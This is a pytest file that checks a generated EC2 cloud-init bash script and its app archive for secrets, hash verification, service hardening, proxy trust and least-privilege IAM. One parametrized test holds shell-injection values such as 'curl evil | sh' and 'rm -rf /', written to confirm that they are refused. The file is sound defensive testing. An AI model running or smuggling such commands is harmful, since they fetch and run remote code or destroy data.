"""The web server's cloud-init script and the archive it installs: valid bash, a few KB, secret-free, and the real
app (in the archive, named by its sha256)."""

from __future__ import annotations

import ast
import difflib
import hashlib
import re
import shutil
import subprocess

import pytest

from constructs_lib.web_app.user_data import (
    APP_IAM_ACTIONS,
    APP_LISTEN,
    CA_BUNDLE_URL,
    CA_FILE,
    DNF_PACKAGES,
    EC2_USER_DATA_LIMIT,
    ENTRY_MODULE,
    HTTPD_CONF_NAME,
    UNIT_NAME,
    USER_DATA_BUDGET,
    app_source_path,
    instance_files,
    render_user_data,
    requirements_path,
)
from tests.support.app_artifacts import ARGS, archive_members, artifact_for, member_text


@pytest.fixture(scope="module")
def artifact():
    return artifact_for()


@pytest.fixture(scope="module")
def lb_artifact():
    return artifact_for(behind_load_balancer=True)


@pytest.fixture(scope="module")
def script(artifact):
    return render_user_data(artifact=artifact)


@pytest.fixture(scope="module")
def lb_script(lb_artifact):
    return render_user_data(artifact=lb_artifact)


def entry(artifact):
    return member_text(artifact, f"{ENTRY_MODULE}.py")


def unit_of(artifact):
    return member_text(artifact, UNIT_NAME)


def conf_of(artifact):
    return member_text(artifact, HTTPD_CONF_NAME)


def test_is_a_strict_bash_script(script):
    assert script.startswith("#!/bin/bash\n")
    assert "\nset -euo pipefail\n" in script.split("dnf install")[0]
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


@pytest.mark.integration
def test_passes_shellcheck(script):
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck not installed (apt-get install shellcheck)")
    result = subprocess.run(
        [shellcheck, "--shell=bash", "--severity=style", "-"], input=script, text=True, capture_output=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("behind_load_balancer", [False, True])
def test_stays_within_4_kb(behind_load_balancer):
    """The app is in the archive, so the script is a few KB whatever the app's size (EC2 allows 16 KB)."""
    size = len(render_user_data(artifact=artifact_for(behind_load_balancer=behind_load_balancer)).encode("utf-8"))
    assert size <= USER_DATA_BUDGET == 4096 < EC2_USER_DATA_LIMIT == 16384, f"{size} bytes"


def test_names_the_cluster_but_holds_no_secret(script, artifact):
    for value in ARGS.values():
        assert repr(value) in entry(artifact)
    for text in (script, *(content.decode("utf-8") for content in archive_members(artifact.archive).values())):
        assert not re.search(r"(?i)passw(or)?d\w*[\"']?\s*[:=]\s*[\"'][^\"']", text), "password literal"
        assert not re.search(r"(?m)^\s*(export\s+)?[A-Z_]*(PASSW(OR)?D|SECRET)[A-Z_]*=", text), "shell variable"
        assert "PRIVATE KEY" not in text
        assert not re.search(r"\b(AKIA|ASIA)[0-9A-Z]{16}\b", text), "AWS access key id"
        assert not re.search(r"(?i)aws_secret_access_key|arn:aws:secretsmanager:", text)
        assert not re.search(r"\.cluster-(ro-)?\w+\.[\w-]+\.rds\.amazonaws\.com", text), "endpoints are looked up"


def test_the_archive_holds_the_package_app_unchanged_and_the_script_its_key_and_hash(script, artifact):
    members = archive_members(artifact.archive)
    assert list(members)[:2] == ["employee_directory.py", "requirements.txt"]
    assert members["employee_directory.py"] == app_source_path().read_bytes()
    assert members["requirements.txt"] == requirements_path().read_bytes()
    digest = hashlib.sha256(artifact.archive).hexdigest()
    assert artifact.sha256 == digest and artifact.object_key == f"app/{digest}.tar"
    assert f'echo "{digest}  $staging/app.tar" | sha256sum --check --quiet -\n' in script
    assert f"--key '{artifact.object_key}'" in script
    assert '--bucket "aurora-web-app-$account-eu-west-1"' in script and '--expected-bucket-owner "$account"' in script


def test_the_archive_is_checked_before_anything_is_installed(script):
    """Only dnf runs before the check: no file of the app, no CA bundle, no venv, no service on a mismatch."""
    before, after = script.split("sha256sum --check --quiet -\n")
    assert not re.search(r"(?m)^\s*(install|cat|mv|cp|curl|python3|systemctl|apachectl) ", before), before
    assert after.index("tar --extract") < after.index("install -d -m 0755")


def test_app_and_entry_point_are_python_3_9(artifact):
    """The app's virtual environment on Amazon Linux 2023 runs the system Python 3.9."""
    ast.parse(app_source_path().read_text(encoding="utf-8"), feature_version=(3, 9))
    ast.parse(entry(artifact), feature_version=(3, 9))


def test_installs_the_app_behind_httpd_as_a_service(script, artifact):
    """AL2023 packages only; the app under waitress as a systemd service; httpd proxies port 80 to it.

    tests/web_app/test_web_app_boot.py runs the whole script in an isolated root.
    """
    assert f"dnf install -y {' '.join(DNF_PACKAGES)}\n" in script
    assert f"--output {CA_FILE}.tmp {CA_BUNDLE_URL}\n" in script
    assert "--require-hashes --no-deps --only-binary :all: -r " in script
    unit = unit_of(artifact)
    assert "DynamicUser=yes\n" in unit and "NoNewPrivileges=yes\n" in unit and "ProtectSystem=strict\n" in unit
    assert f"--listen={APP_LISTEN}" in unit and APP_LISTEN.startswith("127.0.0.1:")
    conf = conf_of(artifact)
    assert f"ProxyPass / http://{APP_LISTEN}/" in conf and "ProxyRequests Off" in conf
    assert script.rstrip().endswith(
        "apachectl configtest\nsystemctl daemon-reload\nsystemctl enable --now employee-directory.service\n"
        "systemctl enable httpd\nsystemctl restart httpd"
    )


def test_without_a_load_balancer_httpd_overwrites_the_clients_forwarded_proto(artifact):
    """The instance answers HTTP itself: whatever X-Forwarded-Proto a client sends, the app is told "http"."""
    conf = conf_of(artifact)
    assert "RequestHeader set X-Forwarded-Proto http early\n" in conf
    assert conf.index("X-Forwarded-Proto") < conf.index("ProxyPass /"), "set before the request is proxied"
    unit = unit_of(artifact)
    assert '--trusted-proxy=127.0.0.1 \\\n  "--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" ' in unit
    assert "--trusted-proxy-count" not in unit, "httpd's own hop is the client: waitress's default count of 1"


def test_behind_the_load_balancer_the_albs_forwarded_proto_and_hop_are_trusted(lb_artifact):
    """TLS ends at the ALB: httpd passes its X-Forwarded-Proto on, and waitress skips the ALB's X-Forwarded-For hop."""
    conf = conf_of(lb_artifact)
    assert "X-Forwarded-Proto" not in conf
    unit = unit_of(lb_artifact)
    assert '"--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" --trusted-proxy-count=2 ' in unit


def test_the_load_balancer_changes_only_the_proxy_trust(artifact, lb_artifact, script, lb_script):
    def lines(artifact):
        return [line for name in (UNIT_NAME, HTTPD_CONF_NAME) for line in member_text(artifact, name).splitlines()]

    changed = [
        line
        for line in difflib.unified_diff(lines(artifact), lines(lb_artifact), lineterm="", n=0)
        if line[:1] in "+-" and not line.startswith(("+++", "---"))
    ]
    # The scripts differ only by the archive they name.
    assert script.replace(artifact.sha256, "<sha256>") == lb_script.replace(lb_artifact.sha256, "<sha256>")
    assert changed == [
        '-  "--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" wsgi_entry:application',
        '+  "--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" --trusted-proxy-count=2 wsgi_entry:application',
        "-RequestHeader set X-Forwarded-Proto http early",
    ], changed


def test_behind_load_balancer_is_a_boolean():
    with pytest.raises(TypeError, match="True or False"):
        instance_files(**ARGS, behind_load_balancer="yes")


def test_rendering_and_the_archive_are_deterministic(script, artifact):
    """Any byte of change would replace the instance: the same source gives the same archive, key and script."""
    again = artifact_for()
    assert again.archive == artifact.archive and render_user_data(artifact=again) == script


def test_the_script_needs_the_instances_files_in_the_archive():
    from constructs_lib.app_artifact_config import AppArtifactConfig

    with pytest.raises(ValueError, match="lacks the instance's files"):
        render_user_data(artifact=AppArtifactConfig(region="eu-west-1"))


@pytest.mark.parametrize(
    "field, value",
    [
        ("region", "eu-west-1; curl evil | sh"),
        ("region", "${TfToken[TOKEN.12]}"),
        ("cluster_identifier", "db'; rm -rf /"),
        ("cluster_identifier", "a" * 64),
        ("cluster_identifier", "ends-"),
        ("database_name", "sample`"),
        ("database_name", "1sample"),
        ("database_name", ""),
    ],
)
def test_refuses_values_that_are_not_plain_names(field, value):
    with pytest.raises(ValueError, match="not a plain"):
        instance_files(**{**ARGS, field: value})


def test_iam_actions_are_least_privilege():
    assert APP_IAM_ACTIONS == {"rds": ["rds:DescribeDBClusters"], "secret": ["secretsmanager:GetSecretValue"]}
